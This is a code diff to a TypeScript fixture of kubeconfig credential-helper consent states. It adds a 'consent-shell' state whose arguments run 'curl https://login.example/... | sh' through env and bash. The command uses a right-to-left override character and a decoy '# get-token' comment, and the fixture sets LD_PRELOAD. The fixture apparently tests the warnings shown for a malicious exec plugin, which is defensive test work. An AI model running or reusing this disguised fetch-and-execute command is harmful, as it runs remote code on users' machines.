@@ -82,9 +82,25 @@ export const clusterStates = {
       kind: 'consent',
       key: 'consent-1',
       command: '/usr/local/bin/aliyun-cli-auth',
+      written: 'aliyun-cli-auth',
       args: ['get-token', '--cluster-id', 'c9f8e1b2', '--region', 'cn-north-2-gov-1'],
       env: ['ALIYUN_PROFILE', 'HTTPS_PROXY'],
       file: '/home/ops/.kube/config',
+      warnings: [],
+    }),
+  'consent-shell': () =>
+    withStaging({
+      kind: 'consent',
+      key: 'consent-3',
+      command: '/usr/bin/env',
+      written: 'env',
+      args: ['bash', '-c', 'curl https://login.example/\u202etxt.exe | sh   # get-token', '', '--region'],
+      env: ['PATH', 'LD_PRELOAD'],
+      file: '/home/ops/.kube/config',
+      warnings: [
+        { kind: 'launcher', program: 'env' },
+        { kind: 'loads-code', variables: ['PATH', 'LD_PRELOAD'] },
+      ],
     }),
   'connect-failed': () =>
     withStaging({
@@ -109,6 +125,7 @@ export const clusterStates = {
       kind: 'consent',
       key: 'consent-2',
       command: '/opt/company/tools/kubernetes/credential-helpers/company-kube-login',
+      written: '/opt/company/tools/kubernetes/credential-helpers/company-kube-login',
       args: [
         ...['get-token', '--login', 'interactive', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630'],
         ...['--authority-host', 'https://login.partner.microsoftonline.cn/', '--cluster', 'far east'],
@@ -116,6 +133,7 @@ export const clusterStates = {
       ],
       env: ['AAD_LOGIN_METHOD', 'AAD_SERVICE_PRINCIPAL_CLIENT_ID', 'HTTPS_PROXY', 'NO_PROXY', 'SSL_CERT_DIR'],
       file: '/home/ops/work/clusters/government/east/kubeconfig-of-the-second-availability-zone.yaml',
+      warnings: [],
     }),
   replaced: () => {
     const view = withStaging(live)
